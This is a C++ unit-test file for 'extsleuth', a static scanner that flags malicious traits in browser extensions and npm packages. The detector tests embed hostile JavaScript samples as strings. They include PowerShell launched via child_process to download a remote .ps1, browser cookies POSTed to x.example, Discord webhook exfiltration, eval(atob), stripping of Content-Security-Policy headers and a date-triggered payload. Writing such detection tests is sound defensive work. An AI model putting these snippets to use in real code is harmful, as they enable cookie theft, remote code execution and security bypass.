#include "extsleuth/common/error.hpp"
#include "extsleuth/detect/rules.hpp"

#include "artifact_builder.hpp"
#include "random_source.hpp"

#include <gtest/gtest.h>
#include <openssl/evp.h>
#include <openssl/sha.h>

#include <ctime>
#include <set>

using namespace extsleuth;
using namespace extsleuth::detect;
using extsleuth::ingest::ArtifactKind;
using testgen::make_artifact;

namespace {

std::vector<Finding> scan_npm(const std::string& js, const StaticConfig& cfg = {})
{
    auto a = make_artifact(ArtifactKind::NpmPackage, {{"package.json", testgen::npm_manifest()}, {"index.js", js}});
    return run_static_engine(a, code::build_code_model(a), SignatureDb{}, cfg);
}

std::vector<Finding> of_rule(const std::vector<Finding>& fs, std::string_view rule)
{
    std::vector<Finding> out;
    for (auto& f : fs)
        if (f.ruleId == rule)
            out.push_back(f);
    return out;
}

std::string openssl_b64(const std::string& raw)
{
    std::string out(4 * ((raw.size() + 2) / 3) + 1, '\0');
    int n = EVP_EncodeBlock(reinterpret_cast<unsigned char*>(out.data()),
                            reinterpret_cast<const unsigned char*>(raw.data()), static_cast<int>(raw.size()));
    out.resize(static_cast<std::size_t>(n));
    return out;
}

std::string openssl_sha_hex(const std::string& raw)
{
    unsigned char md[SHA256_DIGEST_LENGTH];
    SHA256(reinterpret_cast<const unsigned char*>(raw.data()), raw.size(), md);
    static const char* hex = "0123456789abcdef";
    std::string s;
    for (auto b : md) {
        s += hex[b >> 4];
        s += hex[b & 15];
    }
    return s;
}

// Independent epoch oracle: libc timegm on a broken-down UTC time.
std::int64_t utc_ms(int y, int mon, int d, int h = 0, int mi = 0, int s = 0)
{
    std::tm tm{};
    tm.tm_year = y - 1900;
    tm.tm_mon = mon - 1;
    tm.tm_mday = d;
    tm.tm_hour = h;
    tm.tm_min = mi;
    tm.tm_sec = s;
    return static_cast<std::int64_t>(timegm(&tm)) * 1000;
}

void expect_evidence_integrity(const ingest::ExtensionArtifact& a, const std::vector<Finding>& fs)
{
    for (auto& f : fs) {
        EXPECT_LE(f.evidence.size(), kMaxEvidenceBytes) << f.id;
        if (!f.location)
            continue;
        const auto* file = a.find(f.location->path);
        ASSERT_NE(file, nullptr) << f.id;
        const auto& sp = f.location->span;
        ASSERT_LE(sp.offset + sp.length, file->bytes.size()) << f.id;
        EXPECT_EQ(file->bytes.substr(sp.offset, sp.length), f.evidence) << f.id;
    }
}

const char* kJqueryBanner = "/*! jQuery v1.12.0 | (c) jQuery Foundation | jquery.org/license */\n!function(a){}(this);\n";

} // namespace

TEST(Severity, TotalOrderAndNames)
{
    EXPECT_LT(Severity::Info, Severity::Low);
    EXPECT_LT(Severity::Low, Severity::Medium);
    EXPECT_LT(Severity::Medium, Severity::High);
    for (auto s : {Severity::Info, Severity::Low, Severity::Medium, Severity::High})
        EXPECT_EQ(parse_severity(to_string(s)), s);
    EXPECT_EQ(parse_severity("high"), Severity::High);
    EXPECT_FALSE(parse_severity("critical"));
}

TEST(Versions, DottedNumericComparison)
{
    EXPECT_LT(compare_versions("1.12.0", "3.0.0"), 0);
    EXPECT_GT(compare_versions("1.12.0", "1.0.0"), 0);
    EXPECT_LT(compare_versions("1.2.0", "1.12.0"), 0); // numeric, not lexicographic
    EXPECT_EQ(compare_versions("3.0", "3.0.0"), 0);
    EXPECT_EQ(compare_versions("v2.1.0-beta", "2.1.0"), 0);
    EXPECT_LT(compare_versions("4.17.20", "4.17.21"), 0);
}

TEST(SignatureDb, LoadsOneEntry)
{
    auto db = parse_signature_db(R"J({"entries":[{"library":"jQuery","versionRegex":"jQuery v(\\d+\\.\\d+\\.\\d+)",
        "vulnerableBelow":"3.0.0","advisories":["CVE-2015-9251"],"hashes":[]}]})J");
    ASSERT_EQ(db.entries.size(), 1u);
    EXPECT_EQ(db.entries[0].library, "jQuery");
    EXPECT_EQ(db.entries[0].advisories, std::vector<std::string>{"CVE-2015-9251"});
}

TEST(SignatureDb, BadRegexReportsLine)
{
    std::string json = "{\n  \"entries\": [\n    {\"library\":\"ok\",\"versionRegex\":\"v(\\\\d+)\",\"vulnerableBelow\":\"1\"},\n"
                       "    {\"library\":\"bad\",\"versionRegex\":\"v((\\\\d+\",\"vulnerableBelow\":\"1\"}\n  ]\n}\n";
    try {
        parse_signature_db(json, "db.json");
        FAIL() << "expected MalformedSignatureDb";
    } catch (const Error& e) {
        EXPECT_EQ(e.code(), ErrorCode::MalformedSignatureDb);
        EXPECT_NE(std::string(e.what()).find("db.json:4:"), std::string::npos) << e.what();
    }
}

TEST(SignatureDb, RejectsStructuralProblems)
{
    auto code_of = [](const std::string& j) {
        try {
            parse_signature_db(j);
        } catch (const Error& e) {
            return e.code();
        }
        return ErrorCode::Io;
    };
    EXPECT_EQ(code_of("{\"entries\": [}"), ErrorCode::MalformedSignatureDb);
    EXPECT_EQ(code_of("[]"), ErrorCode::MalformedSignatureDb);
    EXPECT_EQ(code_of(R"J({"entries":[{"library":"x","versionRegex":"(a)(b)","vulnerableBelow":"1"}]})J"),
              ErrorCode::MalformedSignatureDb);
    EXPECT_EQ(code_of(R"J({"entries":[{"library":"x","versionRegex":"(a)","vulnerableBelow":"none"}]})J"),
              ErrorCode::MalformedSignatureDb);
    EXPECT_EQ(code_of(R"J({"entries":[{"library":"x","versionRegex":"(a)","vulnerableBelow":"1","hashes":["zz"]}]})J"),
              ErrorCode::MalformedSignatureDb);
    EXPECT_EQ(code_of(R"J({"entries":[{"versionRegex":"(a)","vulnerableBelow":"1"}]})J"), ErrorCode::MalformedSignatureDb);
}

TEST(SignatureDb, SyntaxErrorLine)
{
    try {
        parse_signature_db("{\n\"entries\": [\n,\n]}", "s.json");
        FAIL();
    } catch (const Error& e) {
        EXPECT_NE(std::string(e.what()).find("s.json:3:"), std::string::npos) << e.what();
    }
}

TEST(SignatureDb, EmptyEntriesIsValidAndVacuous)
{
    auto db = parse_signature_db(R"({"entries":[]})");
    EXPECT_TRUE(db.entries.empty());
    auto a = make_artifact(ArtifactKind::NpmPackage, {{"package.json", testgen::npm_manifest()}, {"index.js", kJqueryBanner}});
    EXPECT_TRUE(scan_vulnerable_libraries(a, code::build_code_model(a), db).empty());
}

TEST(SignatureDb, DefaultDatabaseLoads)
{
    EXPECT_GE(default_signature_db().entries.size(), 3u);
}

namespace {

SignatureDb jquery_db(const std::string& below, const std::string& advisories = "[\"CVE-2015-9251\"]",
                      const std::string& hashes = "[]")
{
    std::string json = "{\"entries\":[{\"library\":\"jQuery\",\"versionRegex\":\"jQuery v(\\\\d+\\\\.\\\\d+\\\\.\\\\d+)\",";
    json += "\"vulnerableBelow\":\"" + below + "\",\"advisories\":" + advisories + ",\"hashes\":" + hashes + "}]}";
    return parse_signature_db(json);
}

} // namespace

TEST(VulnerableLibraries, JqueryBelowThreshold)
{
    auto a = make_artifact(ArtifactKind::ChromeExtension,
                           {{"manifest.json", testgen::chrome_manifest()}, {"bg.js", "x();"}, {"lib/jquery.min.js", kJqueryBanner}});
    auto fs = scan_vulnerable_libraries(a, code::build_code_model(a), jquery_db("3.0.0"));
    ASSERT_EQ(fs.size(), 1u);
    EXPECT_EQ(fs[0].severity, Severity::Medium);
    EXPECT_EQ(fs[0].title, "vulnerable library jQuery 1.12.0");
    EXPECT_EQ(fs[0].evidence, "jQuery v1.12.0");
    EXPECT_EQ(fs[0].location->path, "lib/jquery.min.js");
    expect_evidence_integrity(a, fs);
}

TEST(VulnerableLibraries, VersionAtOrAboveThresholdIsClean)
{
    auto a = make_artifact(ArtifactKind::NpmPackage, {{"package.json", testgen::npm_manifest()}, {"index.js", kJqueryBanner}});
    auto model = code::build_code_model(a);
    EXPECT_TRUE(scan_vulnerable_libraries(a, model, jquery_db("1.0.0")).empty());
    EXPECT_TRUE(scan_vulnerable_libraries(a, model, jquery_db("1.12.0")).empty());
}

TEST(VulnerableLibraries, NoCodeFilesNoFindings)
{
    auto a = make_artifact(ArtifactKind::NpmPackage, {{"package.json", testgen::npm_manifest("README.md")}, {"README.md", kJqueryBanner}});
    EXPECT_TRUE(scan_vulnerable_libraries(a, code::build_code_model(a), jquery_db("3.0.0")).empty());
}

TEST(VulnerableLibraries, NoAdvisoriesIsInfo)
{
    auto a = make_artifact(ArtifactKind::NpmPackage, {{"package.json", testgen::npm_manifest()}, {"index.js", kJqueryBanner}});
    auto fs = scan_vulnerable_libraries(a, code::build_code_model(a), jquery_db("3.0.0", "[]"));
    ASSERT_EQ(fs.size(), 1u);
    EXPECT_EQ(fs[0].severity, Severity::Info);
}

TEST(VulnerableLibraries, ExactHashMatchesWithoutVersionText)
{
    std::string body = "var stripped = function () { return 42; };\n";
    auto a = make_artifact(ArtifactKind::NpmPackage, {{"package.json", testgen::npm_manifest()}, {"index.js", body}});
    auto fs = scan_vulnerable_libraries(a, code::build_code_model(a),
                                        jquery_db("3.0.0", R"(["CVE-X"])", "[\"" + openssl_sha_hex(body) + "\"]"));
    ASSERT_EQ(fs.size(), 1u);
    EXPECT_EQ(fs[0].severity, Severity::Medium);
    EXPECT_EQ(fs[0].title, "vulnerable library jQuery");
}

TEST(VulnerableLibraries, DefaultDbMergesTiersIntoOneFinding)
{
    auto a = make_artifact(ArtifactKind::NpmPackage, {{"package.json", testgen::npm_manifest()}, {"index.js", kJqueryBanner}});
    auto fs = scan_vulnerable_libraries(a, code::build_code_model(a), default_signature_db());
    ASSERT_EQ(fs.size(), 1u);
    EXPECT_NE(fs[0].detail.find("CVE-2015-9251"), std::string::npos);
    EXPECT_NE(fs[0].detail.find("CVE-2020-11022"), std::string::npos);
}

TEST(ClassifyUrl, Examples)
{
    auto lists = HostLists::defaults();
    EXPECT_EQ(classify_url("https://discord.com/api/webhooks/9/z", lists), DomainClass::ExfilIndicator);
    EXPECT_EQ(classify_url("https://www.google-analytics.com/collect", lists), DomainClass::KnownBenign);
    EXPECT_EQ(classify_url("https://asdf11.xyz/a.ps1", lists), DomainClass::SuspiciousUnknown);
    EXPECT_EQ(classify_url("https://cyberhavenext.pro/upload", lists), DomainClass::ExfilIndicator);
    EXPECT_EQ(classify_url("http://185.12.4.9:8080/x", lists), DomainClass::ExfilIndicator);
    EXPECT_EQ(classify_url("http://[2001:db8::1]/x", lists), DomainClass::ExfilIndicator);
    EXPECT_EQ(classify_url("https://discordapp.com/api/v10/webhooks/1/t", lists), DomainClass::ExfilIndicator);
    EXPECT_EQ(classify_url("https://discord.com/channels/1", lists), DomainClass::SuspiciousUnknown);
    // suffix match is label-aligned
    EXPECT_EQ(classify_url("https://evilgoogle-analytics.com/c", lists), DomainClass::SuspiciousUnknown);
    EXPECT_EQ(classify_url("https://a.b.google-analytics.com/c", lists), DomainClass::KnownBenign);
    EXPECT_EQ(classify_url("https://WWW.Google-Analytics.COM/c", lists), DomainClass::KnownBenign);
}

TEST(ClassifyUrl, AllowlistWinsOverIndicators)
{
    HostLists lists{{"discord.com"}, {}};
    EXPECT_EQ(classify_url("https://discord.com/api/webhooks/1/x", lists), DomainClass::KnownBenign);
}

TEST(ClassifyUrl, Malformed)
{
    for (auto bad : {"discord.com/api", "https://", "https://exa mple.com/", "http://host:99999/", "://x"}) {
        try {
            classify_url(bad, HostLists::defaults());
            ADD_FAILURE() << bad;
        } catch (const Error& e) {
            EXPECT_EQ(e.code(), ErrorCode::MalformedUrl) << bad;
        }
    }
}

TEST(ClassifyUrl, HostListFileFormat)
{
    auto l = parse_host_list("# comment\nexample.com\n\n  .Foo.org  # trailing\n");
    EXPECT_EQ(l, (std::vector<std::string>{"example.com", "foo.org"}));
}

TEST(ClassifyUrlProperty, TotalOnWellFormedUrls)
{
    testgen::Rng rng(7);
    auto lists = HostLists::defaults();
    const std::vector<std::string> tlds = {"com", "org", "xyz", "pro", "io"};
    for (int i = 0; i < 2000; ++i) {
        std::string host;
        int labels = 1 + static_cast<int>(rng.below(3));
        for (int l = 0; l < labels; ++l) {
            int len = 1 + static_cast<int>(rng.below(10));
            for (int k = 0; k < len; ++k)
                host += static_cast<char>('a' + rng.below(26));
            host += '.';
        }
        host += rng.pick(tlds);
        if (rng.coin())
            host = std::to_string(rng.below(256)) + "." + std::to_string(rng.below(256)) + ".1.2";
        std::string url = (rng.coin() ? "https://" : "http://") + host + "/" + std::to_string(rng.below(1000));
        DomainClass c{};
        ASSERT_NO_THROW(c = classify_url(url, lists)) << url;
        int matches = (c == DomainClass::KnownBenign) + (c == DomainClass::ExfilIndicator) + (c == DomainClass::SuspiciousUnknown);
        EXPECT_EQ(matches, 1);
        EXPECT_EQ(classify_url(url, lists), c);
    }
}

// --- detector oracles: hand-built positive / negative pairs ---

TEST(WebhookDetector, PositivePairs)
{
    const std::vector<std::string> positives = {
        "fetch('https://discord.com/api/webhooks/123/abc', {method: 'POST'});",
        "const hook = \"https://discordapp.com/api/webhooks/9/zz\";",
        "const u = 'https://discord.com/api/webhooks/' + id + '/' + token;",
        "send(`https://canary.discord.com/api/v10/webhooks/1/${t}`);",
    };
    for (auto& src : positives) {
        auto fs = of_rule(scan_npm(src), "discord-webhook-url");
        ASSERT_EQ(fs.size(), 1u) << src;
        EXPECT_EQ(fs[0].severity, Severity::High);
        EXPECT_NE(fs[0].evidence.find("discord"), std::string::npos);
    }
}

TEST(WebhookDetector, NegativePairs)
{
    const std::vector<std::string> negatives = {
        "fetch('https://discord.com/channels/123/abc');",
        "// https://discord.com/api/webhooks/123/abc in a comment\nrun();",
        "const hook = 'discord.com/api/webhooks/9/zz';",
        "const u = 'https://example.com/api/webhooks/1/2';",
    };
    for (auto& src : negatives)
        EXPECT_TRUE(of_rule(scan_npm(src), "discord-webhook-url").empty()) << src;
}

TEST(Base64Detector, PositivePairsRoundTrip)
{
    testgen::Rng rng(11);
    for (std::size_t size : {std::size_t{10 * 1024}, std::size_t{60 * 1024}, std::size_t{100 * 1024}, std::size_t{200 * 1024}}) {
        std::string raw;
        for (std::size_t i = 0; i < size; ++i)
            raw += static_cast<char>(rng.below(256));
        std::string literal = openssl_b64(raw);
        auto src = "const payload = \"" + literal + "\";\n";
        auto a = make_artifact(ArtifactKind::NpmPackage, {{"package.json", testgen::npm_manifest()}, {"index.js", src}});
        auto model = code::build_code_model(a);
        ASSERT_EQ(model.units[0].blobs.size(), 1u);
        const auto& blob = model.units[0].blobs[0];
        EXPECT_EQ(blob.decodedSizeBytes, size);
        EXPECT_EQ(blob.decodedSha256, openssl_sha_hex(raw));
        EXPECT_EQ(src.substr(blob.span.offset, blob.span.length), literal);
        auto fs = of_rule(run_static_engine(a, model, SignatureDb{}), "base64-blob");
        ASSERT_EQ(fs.size(), 1u) << size;
        EXPECT_EQ(fs[0].severity, size >= 100 * 1024 ? Severity::High : Severity::Medium) << size;
        expect_evidence_integrity(a, fs);
    }
}

TEST(Base64Detector, NegativePairs)
{
    std::string small = openssl_b64(std::string(10 * 1024 - 1, 'x'));
    std::string notB64(20000, '!');
    std::string badPad = openssl_b64(std::string(12 * 1024, 'y'));
    badPad.back() = 'A';
    badPad[badPad.size() - 2] = '=';
    for (auto& lit : {small, notB64, badPad})
        EXPECT_TRUE(of_rule(scan_npm("x = '" + lit + "';"), "base64-blob").empty());
}

TEST(InvisibleUnicodeDetector, PositivePairs)
{
    const std::vector<std::string> positives = {
        "const a\xE2\x80\x8B = 1;",                   // ZWSP in identifier
        "if (user === 'admin\xE2\x80\xAE\xE2\x81\xA6') {}", // bidi controls
        "var s = '\xE2\x80\x8C\xE2\x80\x8D\xE2\x80\x8C';",  // ZWNJ/ZWJ run
        "x = 1;\xEF\xBB\xBFy = 2;",                    // BOM mid-file
    };
    for (auto& src : positives) {
        auto fs = of_rule(scan_npm(src), "invisible-unicode");
        ASSERT_EQ(fs.size(), 1u) << src;
        EXPECT_EQ(fs[0].severity, Severity::High);
        EXPECT_FALSE(fs[0].evidence.empty());
    }
}

TEST(InvisibleUnicodeDetector, NegativePairs)
{
    const std::vector<std::string> negatives = {
        "\xEF\xBB\xBF" "const a = 1;", // leading BOM only
        "const caf\xC3\xA9 = 'na\xC3\xAFve';",
        "const s = '\\u200B';", // escaped, not literal
        "x = '\xC2\xA0';",     // NBSP is whitespace, not invisible obfuscation
    };
    for (auto& src : negatives)
        EXPECT_TRUE(of_rule(scan_npm(src), "invisible-unicode").empty()) << src;
}

TEST(InvisibleUnicodeDetector, SeparateRunsAreSeparateFindings)
{
    auto fs = of_rule(scan_npm("a = '\xE2\x80\x8B';\nb = '\xE2\x80\x8B';"), "invisible-unicode");
    ASSERT_EQ(fs.size(), 2u);
    EXPECT_NE(fs[0].id, fs[1].id);
}

TEST(PowershellExecDetector, PositivePairs)
{
    const std::vector<std::string> positives = {
        "const cp = require('child_process'); cp.exec('powershell -enc SQBFAFgA');",
        "require('child_process').exec(\"PowerShell -Command iwr https://asdf11.xyz/a.ps1\");",
        "const { execSync } = require('child_process'); execSync('cmd /c ' + 'powershell.exe -nop');",
        "import { spawn } from 'node:child_process'; spawn('POWERSHELL', ['-w', 'hidden']);",
    };
    for (auto& src : positives) {
        auto fs = of_rule(scan_npm(src), "child-process-exec");
        ASSERT_EQ(fs.size(), 1u) << src;
        EXPECT_EQ(fs[0].severity, Severity::High) << src;
    }
}

TEST(PowershellExecDetector, NegativePairs)
{
    // Either not a child-process call or not PowerShell (then Medium, never High).
    const std::vector<std::pair<std::string, std::size_t>> cases = {
        {"const cp = require('child_process'); cp.exec('ls -la');", 1},
        {"console.log('powershell -enc abc');", 0},
        {"const exec = (s) => s; exec('powershell');", 0},
        {"require('child_process').spawn('git', ['status']);", 1},
    };
    for (auto& [src, count] : cases) {
        auto fs = of_rule(scan_npm(src), "child-process-exec");
        ASSERT_EQ(fs.size(), count) << src;
        for (auto& f : fs)
            EXPECT_EQ(f.severity, Severity::Medium) << src;
    }
}

TEST(PatternRules, EvalAndFunctionConstructor)
{
    EXPECT_EQ(of_rule(scan_npm("eval(atob(x));"), "eval-or-function-constructor").size(), 1u);
    EXPECT_EQ(of_rule(scan_npm("new Function('return 1')();"), "eval-or-function-constructor").size(), 1u);
    EXPECT_EQ(of_rule(scan_npm("window.eval('1');"), "eval-or-function-constructor").size(), 1u);
    EXPECT_TRUE(of_rule(scan_npm("obj.evaluate(1); const f = function () {};"), "eval-or-function-constructor").empty());
}

TEST(PatternRules, InstallExtensionCommand)
{
    auto fs = of_rule(scan_npm("const vscode = require('vscode');\n"
                               "vscode.commands.executeCommand(\"workbench.extensions.installExtension\", \"ms-vscode.prettier\");"),
                      "vscode-install-extension");
    ASSERT_EQ(fs.size(), 1u);
    EXPECT_EQ(fs[0].severity, Severity::Medium);
    EXPECT_EQ(fs[0].title, "Extension installing another extension");
    EXPECT_TRUE(of_rule(scan_npm("vscode.commands.executeCommand('workbench.action.reload');"), "vscode-install-extension").empty());
}

TEST(PatternRules, CookiesPlusNetwork)
{
    auto fs = of_rule(scan_npm("chrome.cookies.getAll({}, c => fetch('https://x.example/u', {method:'POST', body: JSON.stringify(c)}));"),
                      "cookies-api-plus-network");
    ASSERT_EQ(fs.size(), 1u);
    EXPECT_EQ(fs[0].severity, Severity::High);
    EXPECT_TRUE(of_rule(scan_npm("chrome.cookies.getAll({}, c => console.log(c));"), "cookies-api-plus-network").empty());
}

TEST(PatternRules, UrlSeverities)
{
    auto fs = scan_npm("a('https://asdf11.xyz/a.ps1'); b('https://cyberhavenext.pro/x'); c('https://www.google-analytics.com/collect');");
    ASSERT_EQ(of_rule(fs, "suspicious-url").size(), 1u);
    EXPECT_EQ(of_rule(fs, "suspicious-url")[0].severity, Severity::Medium);
    ASSERT_EQ(of_rule(fs, "url-exfil-indicator").size(), 1u);
    EXPECT_EQ(of_rule(fs, "url-exfil-indicator")[0].severity, Severity::High);
}

TEST(DateLiterals, AgreeWithLibcOracle)
{
    EXPECT_EQ(parse_date_text("2025-06-01"), utc_ms(2025, 6, 1));
    EXPECT_EQ(parse_date_text("2025-06-01T12:30:00Z"), utc_ms(2025, 6, 1, 12, 30));
    EXPECT_EQ(parse_date_text("2025-06-01T12:30:00+02:00"), utc_ms(2025, 6, 1, 10, 30));
    EXPECT_EQ(parse_date_text("June 1, 2025"), utc_ms(2025, 6, 1));
    EXPECT_EQ(parse_date_text("1 Jun 2025"), utc_ms(2025, 6, 1));
    EXPECT_EQ(parse_date_text("2024/12/25"), utc_ms(2024, 12, 25));
    EXPECT_FALSE(parse_date_text("2025-02-30"));
    EXPECT_FALSE(parse_date_text("Smarch 1, 2025"));
    EXPECT_EQ(literal_date_ms("new Date('2025-06-01')"), utc_ms(2025, 6, 1));
    EXPECT_EQ(literal_date_ms("new Date(2025, 5, 1)"), utc_ms(2025, 6, 1)); // month is zero-based
    EXPECT_EQ(literal_date_ms("Date.UTC(2025, 5)"), utc_ms(2025, 6, 1));
    EXPECT_EQ(literal_date_ms("1748736000000"), utc_ms(2025, 6, 1));
    EXPECT_EQ(literal_date_ms("trigger = new Date(\"June 1, 2025\").getTime()"), utc_ms(2025, 6, 1));
    EXPECT_FALSE(literal_date_ms("Date.now()"));
    EXPECT_FALSE(literal_date_ms("count"));
    for (int y : {1970, 2000, 2024, 2038, 2100})
        for (int m : {1, 2, 7, 12})
            EXPECT_EQ(days_from_civil(y, static_cast<unsigned>(m), 1) * 86'400'000, utc_ms(y, m, 1));
}

TEST(PatternRules, DateThresholdCompare)
{
    auto fs = of_rule(scan_npm("if (Date.now() > new Date('2025-06-01').getTime()) payload();"), "date-threshold-compare");
    ASSERT_EQ(fs.size(), 1u);
    EXPECT_EQ(fs[0].severity, Severity::Medium);
    EXPECT_EQ(fs[0].title, "possible logic bomb");
    EXPECT_EQ(of_rule(scan_npm("const t = new Date(2025, 5, 1);\nif (new Date() >= t) go();"), "date-threshold-compare").size(), 1u);
    // past date relative to the analysis date
    EXPECT_TRUE(of_rule(scan_npm("if (Date.now() > new Date('2020-01-01')) go();"), "date-threshold-compare").empty());
    StaticConfig later;
    later.analysisDateMs = utc_ms(2026, 1, 1);
    EXPECT_TRUE(of_rule(scan_npm("if (Date.now() > new Date('2025-06-01')) go();", later), "date-threshold-compare").empty());
}

TEST(PatternRules, CspStripFromRuleResource)
{
    std::string rules = R"([{"id":1,"priority":1,"action":{"type":"modifyHeaders","responseHeaders":[
        {"header":"Content-Security-Policy","operation":"remove"}]},"condition":{"urlFilter":"*"}}])";
    auto a = make_artifact(ArtifactKind::ChromeExtension,
                           {{"manifest.json", testgen::chrome_manifest("bg.js",
                                 R"(,"declarative_net_request":{"rule_resources":[{"id":"r","enabled":true,"path":"rules.json"}]})")},
                            {"bg.js", "x();"},
                            {"rules.json", rules}});
    auto fs = of_rule(run_static_engine(a, code::build_code_model(a), SignatureDb{}), "csp-strip");
    ASSERT_EQ(fs.size(), 1u);
    EXPECT_EQ(fs[0].severity, Severity::High);
    EXPECT_EQ(fs[0].evidence, "Content-Security-Policy");
    expect_evidence_integrity(a, fs);
}

TEST(PatternRules, CspStripFromDynamicRules)
{
    auto fs = of_rule(scan_npm("chrome.declarativeNetRequest.updateDynamicRules({addRules:[{id:1,action:{type:'modifyHeaders',"
                               "responseHeaders:[{header:'content-security-policy',operation:'remove'}]}}]});"),
                      "csp-strip");
    EXPECT_EQ(fs.size(), 1u);
    EXPECT_TRUE(of_rule(scan_npm("chrome.declarativeNetRequest.updateDynamicRules({addRules:[{id:1,action:{type:'block'}}]});"),
                        "csp-strip").empty());
}

TEST(PatternRules, ManifestLevelRules)
{
    auto a = make_artifact(ArtifactKind::ChromeExtension,
                           {{"manifest.json", testgen::chrome_manifest("missing.js",
                                 R"(,"content_scripts":[{"matches":["https://*.ok.com/*","http://bad*host/*"],"js":["cs.js"]}])")},
                            {"cs.js", "x();"},
                            {"bin/helper.node", std::string("\x7f" "ELF\x02\x01", 6)}});
    auto fs = run_static_engine(a, code::build_code_model(a), SignatureDb{});
    auto missing = of_rule(fs, "missing-reference");
    ASSERT_EQ(missing.size(), 1u);
    EXPECT_EQ(missing[0].severity, Severity::Info);
    EXPECT_EQ(missing[0].evidence, "missing.js");
    auto bad = of_rule(fs, "malformed-match-pattern");
    ASSERT_EQ(bad.size(), 1u);
    EXPECT_EQ(bad[0].evidence, "http://bad*host/*");
    auto native = of_rule(fs, "native-binary-present");
    ASSERT_EQ(native.size(), 1u);
    EXPECT_EQ(native[0].severity, Severity::Low);
    expect_evidence_integrity(a, fs);
}

TEST(PatternRules, ObfuscationInfoOnly)
{
    std::string min = "var a=1;";
    while (min.size() < 3000)
        min += "a=a+1;b=(a*2)|0;";
    auto fs = of_rule(scan_npm(min), "obfuscation-metrics-elevated");
    ASSERT_EQ(fs.size(), 1u);
    EXPECT_EQ(fs[0].severity, Severity::Info);
}

TEST(PatternRules, EmptyArtifactYieldsNothing)
{
    auto a = make_artifact(ArtifactKind::NpmPackage, {{"package.json", R"({"name":"e","version":"1.0.0"})"}});
    EXPECT_TRUE(run_pattern_rules(a, code::build_code_model(a)).empty());
}

TEST(PatternRules, SeverityOverrideAndDisable)
{
    StaticConfig cfg;
    cfg.severityOverrides["eval-or-function-constructor"] = Severity::High;
    auto fs = of_rule(scan_npm("eval(x);", cfg), "eval-or-function-constructor");
    ASSERT_EQ(fs.size(), 1u);
    EXPECT_EQ(fs[0].severity, Severity::High);
    cfg.disabledRules.insert("eval-or-function-constructor");
    EXPECT_TRUE(of_rule(scan_npm("eval(x);", cfg), "eval-or-function-constructor").empty());
}

TEST(FindingIds, FormatAndCollisions)
{
    auto fs = scan_npm("eval(a); eval(b);\nconst cp = require('child_process'); cp.exec('powershell x');");
    std::set<std::string> ids;
    for (auto& f : fs)
        EXPECT_TRUE(ids.insert(f.id).second) << f.id;
    auto evals = of_rule(fs, "eval-or-function-constructor");
    ASSERT_EQ(evals.size(), 2u);
    EXPECT_EQ(evals[0].id, "S-eval-or-function-constructor-index.js:1:1");
    EXPECT_EQ(evals[1].id, "S-eval-or-function-constructor-index.js:1:10");
    EXPECT_EQ(of_rule(fs, "child-process-exec")[0].id, "S-child-process-exec-index.js:2:38");

    std::vector<Finding> dup(3);
    for (auto& f : dup)
        f.ruleId = "r";
    finalize_findings(dup);
    EXPECT_EQ(dup[0].id, "S-r-artifact");
    EXPECT_EQ(dup[1].id, "S-r-artifact#2");
    EXPECT_EQ(dup[2].id, "S-r-artifact#3");
}

namespace {

// Source generator mixing neutral code with snippets that trigger each rule.
std::string random_source(testgen::Rng& rng)
{
    static const std::vector<std::string> pieces = {
        "let v = 1;\n",
        "function f(a) { return a + 1; }\n",
        "fetch('https://discord.com/api/webhooks/1/abc');\n",
        "eval(code);\n",
        "require('child_process').exec('powershell -nop -enc AAAA');\n",
        "const z\xE2\x80\x8B\xE2\x80\x8C = 2;\n",
        "if (Date.now() > new Date('2031-01-01')) boom();\n",
        "vscode.commands.executeCommand('workbench.extensions.installExtension', 'x.y');\n",
        "chrome.cookies.getAll({}, cb);\n",
        "const u = 'https://asdf11.xyz/a.ps1';\n",
        "/* caf\xC3\xA9 */ const t = `a${b}c`;\n",
        "const cp = require('child_process'); cp.spawn('ls');\n",
        "obj['ev' + 'al'](x);\n",
        "if (x > 1748736000000) y();\n",
    };
    std::string s;
    auto n = 1 + rng.below(12);
    for (std::size_t i = 0; i < n; ++i)
        s += rng.pick(pieces);
    if (rng.coin()) {
        std::string raw(10 * 1024 + rng.below(4096), 'q');
        s += "const blob = '" + openssl_b64(raw) + "';\n";
    }
    return s;
}

} // namespace

TEST(StaticEngineProperty, EvidenceSlicesMatchAndRunsArePure)
{
    testgen::Rng rng(2024);
    for (int iter = 0; iter < 150; ++iter) {
        auto src = random_source(rng);
        auto a = make_artifact(ArtifactKind::NpmPackage, {{"package.json", testgen::npm_manifest()}, {"index.js", src}, {"lib/b.js", random_source(rng)}});
        auto model = code::build_code_model(a);
        auto first = run_static_engine(a, model, default_signature_db());
        auto second = run_static_engine(a, code::build_code_model(a), default_signature_db());
        ASSERT_EQ(first, second) << src;
        expect_evidence_integrity(a, first);
        std::set<std::string> ids;
        for (auto& f : first)
            EXPECT_TRUE(ids.insert(f.id).second) << f.id;
        EXPECT_TRUE(std::is_sorted(first.begin(), first.end(), finding_order));
    }
}

TEST(StaticEngineProperty, EnablingARuleNeverRemovesOtherFindings)
{
    testgen::Rng rng(99);
    std::vector<std::string> ids;
    for (auto& r : builtin_rules())
        ids.emplace_back(r.id);
    for (int iter = 0; iter < 60; ++iter) {
        auto a = make_artifact(ArtifactKind::NpmPackage, {{"package.json", testgen::npm_manifest()}, {"index.js", random_source(rng)}});
        auto model = code::build_code_model(a);
        StaticConfig fewer;
        for (auto& id : ids)
            if (rng.coin())
                fewer.disabledRules.insert(id);
        StaticConfig more = fewer;
        more.disabledRules.erase(rng.pick(ids));
        auto small = run_static_engine(a, model, default_signature_db(), fewer);
        auto big = run_static_engine(a, model, default_signature_db(), more);
        for (auto& f : small) {
            bool present = std::any_of(big.begin(), big.end(), [&](const Finding& g) {
                return g.ruleId == f.ruleId && g.location == f.location && g.evidence == f.evidence && g.severity == f.severity;
            });
            EXPECT_TRUE(present) << f.id;
        }
    }
}

// --- policy consistency ---

TEST(PolicyClaims, KeywordMatcher)
{
    auto c = extract_negative_claims("We use analytics. We never collect personal data. Contact us at x@y.z.");
    ASSERT_EQ(c.size(), 1u);
    EXPECT_EQ(c[0].sentence, "We never collect personal data.");
    EXPECT_TRUE(extract_negative_claims("We use analytics.").empty());
    EXPECT_EQ(extract_negative_claims("Your information is something we do not share with anyone.").size(), 1u);
    EXPECT_EQ(extract_negative_claims("We won\xE2\x80\x99t ever sell or transmit your cookies.").size(), 1u);
    // verb too far from the negation (seven words between)
    EXPECT_TRUE(extract_negative_claims("We never do any of the things listed that collect data.").empty());
    // negation + verb but no data noun
    EXPECT_TRUE(extract_negative_claims("We do not send newsletters.").empty());
    // data noun but no negation
    EXPECT_TRUE(extract_negative_claims("We collect data to improve the service.").empty());
}

